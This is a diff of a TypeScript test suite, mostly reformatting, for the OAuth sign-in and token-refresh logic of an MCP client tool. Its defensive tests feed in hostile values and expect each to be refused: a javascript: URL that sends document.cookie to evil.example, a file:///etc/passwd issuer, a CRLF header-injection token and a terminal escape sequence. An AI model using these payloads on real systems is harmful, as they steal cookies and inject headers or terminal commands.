     expect(parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: ' http://127.0.0.1:9000 ' }, read('')).issuer?.href).toBe('http://127.0.0.1:9000/');
     expect(parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: ' ' }, read('')).issuer).toBeUndefined();
     for (const issuer of ['auth.example', 'file:///etc/passwd', 'https://auth.example/?tenant=a', 'https://auth.example/#a', 'https://user@auth.example/']) {
-      expect(() => parseOAuthSettings({ oauthIssuer: issuer }, {}, read('')), issuer).toThrow(expect.objectContaining({ name: 'UsageError', message: `--oauth-issuer must be the authorization server's issuer: an https:// URL (http:// for one on this machine) without a query, fragment or user name, got "${issuer}"`, fix: 'fenbs-mcp --oauth-issuer https://auth.example.com' }));
+      expect(() => parseOAuthSettings({ oauthIssuer: issuer }, {}, read('')), issuer).toThrow(
+        expect.objectContaining({
+          name: 'UsageError',
+          message: `--oauth-issuer must be the authorization server's issuer: an https:// URL (http:// for one on this machine) without a query, fragment or user name, got "${issuer}"`,
+          fix: 'fenbs-mcp --oauth-issuer https://auth.example.com',
+        }),
+      );
     }
     expect(() => parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: 'nope' }, read(''))).toThrow(/^FENBS_MCP_OAUTH_ISSUER must be/);
   });
   it('refuses a metadata-document URL that is not https with a path, and ports or timeouts out of range', () => {
     expect(() => parseOAuthSettings({ oauthClientMetadataUrl: 'http://a.example/c.json' }, {}, read(''))).toThrow(/https/);
-    expect(parseOAuthSettings({ oauthClientMetadataUrl: 'https://a.example/c.json', oauthCallbackPort: '8765', oauthLoginTimeout: '1000' }, {}, read(''))).toMatchObject({ callbackPort: 8765, loginTimeoutMs: 1000 });
+    expect(
+      parseOAuthSettings({ oauthClientMetadataUrl: 'https://a.example/c.json', oauthCallbackPort: '8765', oauthLoginTimeout: '1000' }, {}, read('')),
+    ).toMatchObject({ callbackPort: 8765, loginTimeoutMs: 1000 });
     expect(() => parseOAuthSettings({ oauthCallbackPort: '70000' }, {}, read(''))).toThrow(/--oauth-callback-port/);
   });
 });
@@ -651,7 +821,15 @@ describe('OAuth options', () => {
 describe('client id order', () => {
   const deps = (settings: object): FlowDeps => ({
     http: createOAuthHttp(dispatcher(), false),
-    settings: { clientId: undefined, clientSecret: undefined, issuer: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 1000, ...settings },
+    settings: {
+      clientId: undefined,
+      clientSecret: undefined,
+      issuer: undefined,
+      clientMetadataUrl: undefined,
+      callbackPort: undefined,
+      loginTimeoutMs: 1000,
+      ...settings,
+    },
     registerSecret: () => undefined,
     showUrl: () => undefined,
     openBrowser: () => undefined,
@@ -660,10 +838,19 @@ describe('client id order', () => {
   const as = { issuer: 'https://as.example', client_id_metadata_document_supported: true };
   it('prefers the pre-registered client, then a metadata document where supported, and refuses when nothing works', async () => {
     const signal = AbortSignal.timeout(1000);
-    expect(await obtainClient(deps({ clientId: 'pre', clientSecret: 's' }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({ kind: 'pre-registered', clientId: 'pre', clientSecret: 's' });
+    expect(await obtainClient(deps({ clientId: 'pre', clientSecret: 's' }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({
+      kind: 'pre-registered',
+      clientId: 'pre',
+      clientSecret: 's',
+    });
     const cimd = new URL('https://c.example/client.json');
-    expect(await obtainClient(deps({ clientMetadataUrl: cimd }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({ kind: 'metadata-document', clientId: cimd.href });
-    await expect(obtainClient(deps({ clientMetadataUrl: cimd }), { issuer: 'https://as.example' }, undefined, 'http://127.0.0.1:1/callback', signal)).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/no dynamic client registration/) });
+    expect(await obtainClient(deps({ clientMetadataUrl: cimd }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({
+      kind: 'metadata-document',
+      clientId: cimd.href,
+    });
+    await expect(
+      obtainClient(deps({ clientMetadataUrl: cimd }), { issuer: 'https://as.example' }, undefined, 'http://127.0.0.1:1/callback', signal),
+    ).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/no dynamic client registration/) });
   });
 });
 
@@ -697,8 +884,12 @@ describe('OAuthCredential on its own clock', () => {
     expect(credential.authorization()).not.toBe(first);
     expect(setup.grants).toEqual(['authorization_code', 'refresh_token']);
     // A 403 that is not about scope is a refusal no new token changes.
-    expect(await credential.renew({ status: 403, wwwAuthenticate: 'Bearer error="invalid_token"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(false);
-    expect(await credential.renew({ status: 401, wwwAuthenticate: 'Basic realm="x"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(false);
+    expect(
+      await credential.renew({ status: 403, wwwAuthenticate: 'Bearer error="invalid_token"', sent: credential.authorization() }, AbortSignal.timeout(1000)),
+    ).toBe(false);
+    expect(await credential.renew({ status: 401, wwwAuthenticate: 'Basic realm="x"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(
+      false,
+    );
   });
 });
 
@@ -714,9 +905,17 @@ describe('a server whose authorization server changes between calls', () => {
         received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''} ${Buffer.concat(chunks).toString()}`);
         const json = (status: number, body: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
         if (req.url === '/.well-known/oauth-authorization-server') {
-          json(200, { issuer: origin, authorization_endpoint: `${origin}/auth`, token_endpoint: `${origin}/token`, registration_endpoint: `${origin}/register`, code_challenge_methods_supported: ['S256'], authorization_response_iss_parameter_supported: true });
+          json(200, {
+            issuer: origin,
+            authorization_endpoint: `${origin}/auth`,
+            token_endpoint: `${origin}/token`,
+            registration_endpoint: `${origin}/register`,
+            code_challenge_methods_supported: ['S256'],
+            authorization_response_iss_parameter_supported: true,
+          });
         } else if (req.url === '/register') json(201, { client_id: `client-${name}` });
-        else if (req.url === '/token') json(200, { access_token: `at-${name}-${++issued}`, token_type: 'bearer', expires_in: 3600, refresh_token: `rt-${name}` });
+        else if (req.url === '/token')
+          json(200, { access_token: `at-${name}-${++issued}`, token_type: 'bearer', expires_in: 3600, refresh_token: `rt-${name}` });
         else res.writeHead(404).end();
       });
     });
@@ -724,8 +923,15 @@ describe('a server whose authorization server changes between calls', () => {
   }
 
   /** An MCP server whose protected-resource metadata names `current()`'s origin, and a credential for it whose user signs in at whichever page opens. */
-  async function bridgeOf(current: () => { origin: string }, settings: Parameters<typeof parseOAuthSettings>[0], env: Record<string, string> = {}, home = tempDir()) {
-    const mcp = await serve((req, res, origin) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: [current().origin] })));
+  async function bridgeOf(
+    current: () => { origin: string },
+    settings: Parameters<typeof parseOAuthSettings>[0],
+    env: Record<string, string> = {},
+    home = tempDir(),
+  ) {
+    const mcp = await serve((req, res, origin) =>
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: [current().origin] })),
+    );
     const opened: string[] = [];
     const clock = { now: Date.now() };
     const credentialAt = (cacheHome: string, own = settings) => {
@@ -772,7 +978,11 @@ describe('a server whose authorization server changes between calls', () => {
     // B registered its own client and signed in anew; A's refresh token, access token, client and code never went there.
     expect(opened).toEqual([a.origin, b.origin]);
     expect(b.received.some((r) => r.startsWith('POST /register'))).toBe(true);
-    for (const secret of ['rt-a', 'at-a-1', 'client-a', encodeURIComponent(`code-for-${a.origin}`)]) expect(b.received.filter((r) => r.includes(secret)), secret).toEqual([]);
+    for (const secret of ['rt-a', 'at-a-1', 'client-a', encodeURIComponent(`code-for-${a.origin}`)])
+      expect(
+        b.received.filter((r) => r.includes(secret)),
+        secret,
+      ).toEqual([]);
     // B's token is refused: refreshed at B with B's client, nothing sent to A.
     expect(await renew()).toBe(true);
     expect(token()).toBe('at-b-2');
@@ -829,15 +1039,24 @@ describe('a server whose authorization server changes between calls', () => {
     expect(await bridge.renew()).toBe(true);
     current = b;
     bridge.clock.now += SIGN_IN_QUIET_MS;
-    await expect(bridge.renew()).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/) });
+    await expect(bridge.renew()).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/),
+    });
     expect(new Set(requestsTo(b))).toEqual(new Set(['GET /.well-known/oauth-authorization-server']));
   });
 
   it('binds a pre-registered client a cache from before bindings already holds to the authorization server of that entry', async () => {
     const [a, b] = [await namedAs('a'), await namedAs('b')];
     const bridge = await bridgeOf(() => b, PRE_REGISTERED, WITH_SECRET);
-    bridge.credential.store.write({ ...bridge.credential.store.read(), issuers: { [a.origin]: { resource: 'http://127.0.0.1/mcp', client: { kind: 'pre-registered', clientId: 'prex' } } } });
-    await expect(bridge.renew()).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/) });
+    bridge.credential.store.write({
+      ...bridge.credential.store.read(),
+      issuers: { [a.origin]: { resource: 'http://127.0.0.1/mcp', client: { kind: 'pre-registered', clientId: 'prex' } } },
+    });
+    await expect(bridge.renew()).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/),
+    });
     expect(new Set(requestsTo(b))).toEqual(new Set(['GET /.well-known/oauth-authorization-server']));
   });
 
@@ -882,11 +1101,24 @@ describe('a server whose authorization server changes between calls', () => {
     const server = await namedAs('c');
     const o = server.origin;
     // Its metadata without authorization_response_iss_parameter_supported.
-    const as = { issuer: o, authorization_endpoint: `${o}/auth`, token_endpoint: `${o}/token`, registration_endpoint: `${o}/register`, code_challenge_methods_supported: ['S256'] };
+    const as = {
+      issuer: o,
+      authorization_endpoint: `${o}/auth`,
+      token_endpoint: `${o}/token`,
+      registration_endpoint: `${o}/register`,
+      code_challenge_methods_supported: ['S256'],
+    };
     const discovered = { as, resource: new URL(`${server.origin}/mcp`), scopesSupported: undefined };
     const deps = (iss: string | undefined): FlowDeps => ({
       http: createOAuthHttp(dispatcher(), false),
-      settings: { clientId: undefined, clientSecret: undefined, issuer: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 10_000 },
+      settings: {
+        clientId: undefined,
+        clientSecret: undefined,
+        issuer: undefined,
+        clientMetadataUrl: undefined,
+        callbackPort: undefined,
+        loginTimeoutMs: 10_000,
+      },
       registerSecret: () => undefined,
       showUrl: () => undefined,
       now: Date.now,
@@ -898,7 +1130,9 @@ describe('a server whose authorization server changes between calls', () => {
       },
     });
     const request = { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) };
-    await expect(signIn(deps('https://other-issuer.example'), request)).rejects.toMatchObject({ message: expect.stringMatching(/failed its checks: unexpected "iss"/) });
+    await expect(signIn(deps('https://other-issuer.example'), request)).rejects.toMatchObject({
+      message: expect.stringMatching(/failed its checks: unexpected "iss"/),
+    });
     expect((await signIn(deps(undefined), request)).tokens.accessToken).toMatch(/^at-c-/);
   });
 });
@@ -910,13 +1144,35 @@ describe('the quiet period after an interactive sign-in', () => {
   function held(lastSignIn: object, tokens?: object) {
     const home = tempDir();
     const clock = { now: 1_000_000_000_000 };
-    new TokenStore(home, new URL(server)).write({ server, issuer, issuers: { [issuer]: { resource: server, ...(tokens === undefined ? {} : { tokens: { accessToken: 'token-from-sign-in', obtainedAt: clock.now - 1000, ...tokens } }) } }, lastSignIn: { at: clock.now - 1000, stepUp: false, ...lastSignIn } as never });
+    new TokenStore(home, new URL(server)).write({
+      server,
+      issuer,
+      issuers: {
+        [issuer]: {
+          resource: server,
+          ...(tokens === undefined ? {} : { tokens: { accessToken: 'token-from-sign-in', obtainedAt: clock.now - 1000, ...tokens } }),
+        },
+      },
+      lastSignIn: { at: clock.now - 1000, stepUp: false, ...lastSignIn } as never,
+    });
     const windows: string[] = [];
-    const credential = new OAuthCredential({ url: new URL(server), allowHttp: false, settings: parseOAuthSettings({}, {}, () => ''), logger: silent, env: { FENBS_MCP_HOME: home }, registerSecret: () => undefined, dispatcher: dispatcher(), writeStderr: () => undefined, now: () => clock.now, openBrowser: (url) => windows.push(url) });
+    const credential = new OAuthCredential({
+      url: new URL(server),
+      allowHttp: false,
+      settings: parseOAuthSettings({}, {}, () => ''),
+      logger: silent,
+      env: { FENBS_MCP_HOME: home },
+      registerSecret: () => undefined,
+      dispatcher: dispatcher(),
+      writeStderr: () => undefined,
+      now: () => clock.now,
+      openBrowser: (url) => windows.push(url),
+    });
     cleanups.push(() => credential.close());
     return { credential, clock, windows };
   }
-  const renewal = (credential: OAuthCredential, status: 401 | 403 = 401, wwwAuthenticate = 'Bearer') => credential.renew({ status, wwwAuthenticate, sent: credential.authorization() }, AbortSignal.timeout(5000));
+  const renewal = (credential: OAuthCredential, status: 401 | 403 = 401, wwwAuthenticate = 'Bearer') =>
+    credential.renew({ status, wwwAuthenticate, sent: credential.authorization() }, AbortSignal.timeout(5000));
 
   it('answers AUTH_REQUIRED saying how the last sign-in ended, opens no window and goes to no server, whatever its outcome', async () => {
     const next = /^no new sign-in opens for this server for 299 s, so a retrying client cannot open window after window; fenbs-mcp login signs in now$/;
@@ -933,19 +1189,32 @@ describe('the quiet period after an interactive sign-in', () => {
 
   it('says the server refused the token of the last sign-in, or that it expired without a refresh token, and refuses a second step-up', async () => {
     const refused = held({ outcome: 'signed-in' }, {});
-    await expect(renewal(refused.credential)).rejects.toMatchObject({ message: 'the server refused the OAuth token from the sign-in 1 s ago', context: { hint: expect.stringMatching(/^the server refused the token it just issued: check the scopes \/ the server's configuration; no new sign-in opens/) } });
+    await expect(renewal(refused.credential)).rejects.toMatchObject({
+      message: 'the server refused the OAuth token from the sign-in 1 s ago',
+      context: {
+        hint: expect.stringMatching(/^the server refused the token it just issued: check the scopes \/ the server's configuration; no new sign-in opens/),
+      },
+    });
     const expired = held({ outcome: 'signed-in' }, { expiresAt: 1_000_000_000_000 + 60_000 });
     expired.clock.now += 120_000;
-    await expect(renewal(expired.credential)).rejects.toMatchObject({ message: 'the OAuth token from the sign-in 121 s ago has expired, and the authorization server issued no refresh token' });
+    await expect(renewal(expired.credential)).rejects.toMatchObject({
+      message: 'the OAuth token from the sign-in 121 s ago has expired, and the authorization server issued no refresh token',
+    });
     const stepped = held({ outcome: 'signed-in', stepUp: true }, { scope: 'mcp:read' });
-    await expect(renewal(stepped.credential, 403, 'Bearer error="insufficient_scope", scope="mcp:read mcp:admin"')).rejects.toMatchObject({ message: 'the server asks again for wider scopes after the sign-in 1 s ago that asked for them' });
+    await expect(renewal(stepped.credential, 403, 'Bearer error="insufficient_scope", scope="mcp:read mcp:admin"')).rejects.toMatchObject({
+      message: 'the server asks again for wider scopes after the sign-in 1 s ago that asked for them',
+    });
     for (const { windows } of [refused, expired, stepped]) expect(windows).toEqual([]);
   });
 
   it('explains a refusal of the token just put in place while it is younger than the quiet period, and only of that token', () => {
     const { credential, clock } = held({ outcome: 'signed-in' }, {});
     const sent = credential.authorization();
-    expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: 'Bearer error="invalid_token"', sent })).toMatchObject({ code: 'AUTH_REQUIRED', message: 'the server refused (401) the OAuth token its authorization server issued 1 s ago', context: { status: 401, hint: expect.stringMatching(/^the server refused the token it just issued/) } });
+    expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: 'Bearer error="invalid_token"', sent })).toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: 'the server refused (401) the OAuth token its authorization server issued 1 s ago',
+      context: { status: 401, hint: expect.stringMatching(/^the server refused the token it just issued/) },
+    });
     expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: undefined, sent: 'Bearer another-token' })).toBeUndefined();
     clock.now += SIGN_IN_QUIET_MS;
     expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: undefined, sent })).toBeUndefined();
@@ -957,7 +1226,17 @@ describe('the quiet period after an interactive sign-in', () => {
     const browser = await import('./helpers/oauth-browser-driver.js');
     const home = tempDir();
     const make = (logger: typeof silent, openBrowser: (url: string) => void) => {
-      const credential = new OAuthCredential({ url: new URL(setup.mcpUrl), allowHttp: false, settings: parseOAuthSettings({}, {}, () => ''), logger, env: { FENBS_MCP_HOME: home }, registerSecret: () => undefined, dispatcher: dispatcher(), writeStderr: () => undefined, openBrowser });
+      const credential = new OAuthCredential({
+        url: new URL(setup.mcpUrl),
+        allowHttp: false,
+        settings: parseOAuthSettings({}, {}, () => ''),
+        logger,
+        env: { FENBS_MCP_HOME: home },
+        registerSecret: () => undefined,
+        dispatcher: dispatcher(),
+        writeStderr: () => undefined,
+        openBrowser,
+      });
       cleanups.push(() => credential.close());
       return credential;
     };
@@ -967,8 +1246,14 @@ describe('the quiet period after an interactive sign-in', () => {
     const secondWaits = new Promise<void>((resolve) => (waits = resolve));
     const first = make(silent, (url) => opened(url));
     const windowsOfSecond: string[] = [];
-    const second = make(pino({ level: 'info' }, { write: (line: string) => void (line.includes('waiting for it') && waits()) }), (url) => windowsOfSecond.push(url));
-    const challenge = { status: 401 as const, wwwAuthenticate: `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`, sent: undefined };
+    const second = make(pino({ level: 'info' }, { write: (line: string) => void (line.includes('waiting for it') && waits()) }), (url) =>
+      windowsOfSecond.push(url),
+    );
+    const challenge = {
+      status: 401 as const,
+      wwwAuthenticate: `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`,
+      sent: undefined,
+    };
     const firstDone = first.renew(challenge, AbortSignal.timeout(20_000));
     const url = await windowOfFirst;
     expect(new TokenStore(home, new URL(setup.mcpUrl)).read().lastSignIn).toMatchObject({ outcome: 'started' });
@@ -991,7 +1276,17 @@ describe('the quiet period after an interactive sign-in', () => {
     const store = new TokenStore(home, new URL(setup.mcpUrl));
     store.write({ server: setup.mcpUrl, issuers: {}, lastSignIn: { at: clock.now, outcome: 'denied', stepUp: false } });
     const windows: string[] = [];
-    const credential = new OAuthCredential({ url: new URL(setup.mcpUrl), allowHttp: false, settings: parseOAuthSettings({}, {}, () => ''), logger: silent, env: { FENBS_MCP_HOME: home }, registerSecret: () => undefined, dispatcher: dispatcher(), writeStderr: () => undefined, now: () => clock.now, openBrowser: (url) => {
+    const credential = new OAuthCredential({
+      url: new URL(setup.mcpUrl),
+      allowHttp: false,
+      settings: parseOAuthSettings({}, {}, () => ''),
+      logger: silent,
+      env: { FENBS_MCP_HOME: home },
+      registerSecret: () => undefined,
+      dispatcher: dispatcher(),
+      writeStderr: () => undefined,
+      now: () => clock.now,
+      openBrowser: (url) => {
         windows.push(url);
         void browser.approve(url);
       },
@@ -1027,10 +1322,23 @@ describe('sign-in steps against a scripted authorization server', () => {
         const json = (body: unknown) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
         if (req.url === '/.well-known/oauth-protected-resource/mcp') json({ resource: `${origin}/mcp`, authorization_servers: [origin] });
         else if (req.url === '/.well-known/oauth-authorization-server') json(as);
-        else if (req.url === '/register') (script.register ?? ((r) => r.writeHead(201, { 'content-type': 'application/json' }).end(JSON.stringify({ client_id: 'dcr-client', client_secret: 'dcr-secret-value', client_secret_expires_at: 0 }))))(res);
+        else if (req.url === '/register')
+          (
+            script.register ??
+            ((r) =>
+              r
+                .writeHead(201, { 'content-type': 'application/json' })
+                .end(JSON.stringify({ client_id: 'dcr-client', client_secret: 'dcr-secret-value', client_secret_expires_at: 0 })))
+          )(res);
         else if (req.url === '/token') {
           tokenRequests.push({ auth: req.headers.authorization, body: Buffer.concat(chunks).toString() });
-          (script.token ?? ((r) => r.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'bearer', expires_in: 60 }))))(res);
+          (
+            script.token ??
+            ((r) =>
+              r
+                .writeHead(200, { 'content-type': 'application/json' })
+                .end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'bearer', expires_in: 60 })))
+          )(res);
         } else res.writeHead(404).end();
       });
     });
@@ -1052,7 +1360,15 @@ describe('sign-in steps against a scripted authorization server', () => {
     return {
       secrets,
       http: createOAuthHttp(dispatcher(), false),
-      settings: { clientId: undefined, clientSecret: undefined, issuer: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 10_000, ...settings },
+      settings: {
+        clientId: undefined,
+        clientSecret: undefined,
+        issuer: undefined,
+        clientMetadataUrl: undefined,
+        callbackPort: undefined,
+        loginTimeoutMs: 10_000,
+        ...settings,
+      },
       registerSecret: (s) => secrets.push(s),
       showUrl: () => undefined,
       now: () => 0,
@@ -1082,7 +1398,9 @@ describe('sign-in steps against a scripted authorization server', () => {
     const shown: string[] = [];
     const deps = { ...flowDeps(() => ({})), showUrl: (url: string) => shown.push(url), openBrowser: (url: string) => shown.push(url) };
     const hostile = { ...discovered, as: { ...as, authorization_endpoint: 'javascript:fetch("//evil.example/"+document.cookie)' } };
-    await expect(signIn(deps, { discovered: hostile, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({
+    await expect(
+      signIn(deps, { discovered: hostile, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) }),
+    ).rejects.toMatchObject({
       code: 'AUTH_REQUIRED',
       failure: 'failed',
       message: expect.stringMatching(/^refused to open the sign-in page of .* in the browser: its scheme is javascript:/),
@@ -1093,64 +1411,144 @@ describe('sign-in steps against a scripted authorization server', () => {
   it('refuses an authorization response whose iss is another server (RFC 9207)', async () => {
     const { discovered } = await scriptedAs({});
     const deps = flowDeps(() => ({ code: 'c', iss: 'https://evil.example' }));
-    await expect(signIn(deps, { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/failed its checks/) });
+    await expect(
+      signIn(deps, { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) }),
+    ).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/failed its checks/) });
   });
 
   it('reports an error the authorization server returned, and a refused client as such', async () => {
     const { as, discovered } = await scriptedAs({});
-    await expect(signIn(flowDeps(() => ({ error: 'invalid_scope', error_description: 'no such scope', iss: as.issuer })), { discovered, scope: 'x', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({
+    await expect(
+      signIn(
+        flowDeps(() => ({ error: 'invalid_scope', error_description: 'no such scope', iss: as.issuer })),
+        { discovered, scope: 'x', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
+      ),
+    ).rejects.toMatchObject({
       failure: 'failed',
       message: expect.stringMatching(/refused the sign-in: invalid_scope \(no such scope\)/),
     });
     const refusing = await scriptedAs({ token: (res) => res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":"invalid_client"}') });
-    await expect(signIn(flowDeps(() => ({ code: 'c', iss: refusing.as.issuer })), { discovered: refusing.discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ failure: 'client-rejected' });
+    await expect(
+      signIn(
+        flowDeps(() => ({ code: 'c', iss: refusing.as.issuer })),
+        { discovered: refusing.discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
+      ),
+    ).rejects.toMatchObject({ failure: 'client-rejected' });
   });
 
   it('says so when registration is refused, and when the configured callback port is taken', async () => {
-    const { discovered } = await scriptedAs({ register: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client_metadata"}') });
-    await expect(signIn(flowDeps(() => ({})), { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ message: expect.stringMatching(/registering with the authorization server .* failed/) });
+    const { discovered } = await scriptedAs({
+      register: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client_metadata"}'),
+    });
+    await expect(
+      signIn(
+        flowDeps(() => ({})),
+        { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
+      ),
+    ).rejects.toMatchObject({ message: expect.stringMatching(/registering with the authorization server .* failed/) });
     const taken = Number(new URL(await serve((_req, res) => res.end())).port);
-    await expect(signIn(flowDeps(() => ({}), { callbackPort: taken }), { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ message: expect.stringMatching(/cannot listen for the sign-in callback/) });
+    await expect(
+      signIn(
+        flowDeps(() => ({}), { callbackPort: taken }),
+        { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
+      ),
+    ).rejects.toMatchObject({ message: expect.stringMatching(/cannot listen for the sign-in callback/) });
     // A remembered port that is taken now is not an error: another free port is used.
     const ok = await scriptedAs({});
-    const result = await signIn(flowDeps(() => ({ code: 'c', iss: ok.as.issuer })), { discovered: ok.discovered, scope: undefined, storedClient: undefined, preferredPort: taken, signal: AbortSignal.timeout(10_000) });
+    const result = await signIn(
+      flowDeps(() => ({ code: 'c', iss: ok.as.issuer })),
+      { discovered: ok.discovered, scope: undefined, storedClient: undefined, preferredPort: taken, signal: AbortSignal.timeout(10_000) },
+    );
     expect(result.client.redirectUri).not.toContain(`:${taken}/`);
   });
 
-  const tokenResponse = (body: object) => (res: ServerResponse) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'Bearer', expires_in: 60, ...body }));
+  const tokenResponse = (body: object) => (res: ServerResponse) =>
+    res
+      .writeHead(200, { 'content-type': 'application/json' })
+      .end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'Bearer', expires_in: 60, ...body }));
   const signInWith = async (body: object) => {
     const { as, discovered } = await scriptedAs({ token: tokenResponse(body) });
-    return signIn(flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer })), { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) });
+    return signIn(
+      flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer })),
+      { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
+    );
   };
   const refreshWith = async (body: object) => {
     const { discovered } = await scriptedAs({ token: tokenResponse(body) });
-    return refreshTokens(flowDeps(() => ({})), discovered, { kind: 'registered', clientId: 'c' }, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000));
+    return refreshTokens(
+      flowDeps(() => ({})),
+      discovered,
+      { kind: 'registered', clientId: 'c' },
+      { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 },
+      AbortSignal.timeout(5000),
+    );
   };
 
   it('refuses a token whose type is not Bearer (compared case-insensitively), from the code exchange and from a refresh, naming the type (RFC 6749 §7.1, RFC 9449)', async () => {
     expect((await signInWith({ token_type: 'BeArEr' })).tokens.accessToken).toBe('at-value-1234');
     // oauth4webapi passes DPoP through; it refuses MAC and other types it does not know, without naming them.
-    await expect(signInWith({ token_type: 'DPoP' })).rejects.toMatchObject({ code: 'AUTH_REQUIRED', failure: 'failed', message: 'the code exchange returned a token of type "dpop": fenbs-mcp sends only Bearer tokens (RFC 6750), so it is not kept', context: { hint: expect.stringMatching(/issue this client Bearer tokens/) } });
-    await expect(signInWith({ token_type: 'MAC' })).rejects.toMatchObject({ message: expect.stringMatching(/^the code exchange returned a token of type "mac": /) });
+    await expect(signInWith({ token_type: 'DPoP' })).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      failure: 'failed',
+      message: 'the code exchange returned a token of type "dpop": fenbs-mcp sends only Bearer tokens (RFC 6750), so it is not kept',
+      context: { hint: expect.stringMatching(/issue this client Bearer tokens/) },
+    });
+    await expect(signInWith({ token_type: 'MAC' })).rejects.toMatchObject({
+      message: expect.stringMatching(/^the code exchange returned a token of type "mac": /),
+    });
     await expect(signInWith({ token_type: 'x\u001b]0;pwned\u0007' })).rejects.toMatchObject({ message: expect.stringContaining('type "x\\x1b]0;pwned\\x07"') });
-    await expect(refreshWith({ token_type: 'dpop' })).rejects.toMatchObject({ kind: 'other', message: expect.stringMatching(/^the token refresh returned a token of type "dpop"/) });
-    await expect(refreshWith({ token_type: 'mac' })).rejects.toMatchObject({ kind: 'other', message: expect.stringMatching(/^the token refresh returned a token of type "mac"/) });
+    await expect(refreshWith({ token_type: 'dpop' })).rejects.toMatchObject({
+      kind: 'other',
+      message: expect.stringMatching(/^the token refresh returned a token of type "dpop"/),
+    });
+    await expect(refreshWith({ token_type: 'mac' })).rejects.toMatchObject({
+      kind: 'other',
+      message: expect.stringMatching(/^the token refresh returned a token of type "mac"/),
+    });
   });
 
   it('refuses an access or refresh token no Authorization header can carry, from the code exchange and from a refresh', async () => {
-    await expect(signInWith({ access_token: 'at\r\nX-Injected:1' })).rejects.toMatchObject({ message: 'the code exchange returned an access token that contains a line break, so it cannot be sent in an Authorization header; it is not kept' });
-    await expect(signInWith({ refresh_token: 'rt\u0000x' })).rejects.toMatchObject({ message: expect.stringMatching(/returned a refresh token that contains a control character/) });
+    await expect(signInWith({ access_token: 'at\r\nX-Injected:1' })).rejects.toMatchObject({
+      message: 'the code exchange returned an access token that contains a line break, so it cannot be sent in an Authorization header; it is not kept',
+    });
